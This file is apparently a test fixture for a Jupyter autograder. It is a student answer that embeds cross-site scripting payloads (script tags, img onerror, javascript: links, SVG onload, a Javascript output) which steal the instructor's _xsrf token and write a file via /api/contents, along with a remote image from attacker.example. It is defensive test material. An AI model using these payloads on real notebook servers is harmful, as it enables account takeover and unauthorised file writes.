# Attack: outputs that would run script in Formgrader (logged in as the instructor) and in the
# feedback: a <script> and an <img onerror> in HTML, a Javascript output, an SVG with onload, a widget
# view, and strings the flag scan quotes into a comment (<img onerror> next to a grading name; a
# markdown link to javascript: and a markdown image loading a remote URL, which the feedback template
# renders as markdown after escaping the HTML).
# Each script would write a file through /api/contents with the instructor's _xsrf. The grader
# keeps the text, drops or sanitises the rest; the answer itself is right.
# based-on: solved
# expect-score: 9
# %% answer: answer_add_intercept_column
from IPython.display import HTML, SVG, Javascript, display
_js = ("window.__l1l2_pwned = 1; document.title = 'PWNED'; "
       "fetch('/api/contents/pwned-by-student.txt', {method: 'PUT', credentials: 'same-origin', "
       "headers: {'Content-Type': 'application/json', 'X-XSRFToken': "
       "((document.cookie.match(/_xsrf=([^;]+)/) || [])[1] || '')}, "
       "body: JSON.stringify({type: 'file', format: 'text', content: 'pwned'})});")
display(HTML(f"<b>table</b><script>{_js}</script><img src=x onerror=\"{_js}\">"
             f"<a href=\"javascript:{_js}\">link</a><iframe src=\"javascript:{_js}\"></iframe>"))
display(Javascript(_js))
display(SVG(f"<svg xmlns='http://www.w3.org/2000/svg' width='10' height='10' onload=\"{_js}\">"
            f"<script>{_js}</script><circle r='5'/></svg>"))
display({"application/vnd.jupyter.widget-view+json": {"model_id": "x", "version_major": 2, "version_minor": 0},
         "text/plain": "widget"}, raw=True)
_quoted = "<img src=x onerror=\"window.__l1l2_pwned = 2\">reference_solutions"
_md_link = "[x](javascript:window.__l1l2_pwned=4)coursekit"
_md_image = "![](https://attacker.example/b.png)coursekit"
def add_intercept_column(X):
    X = np.asarray(X, dtype=float)
    return np.column_stack([np.ones(X.shape[0]), X])
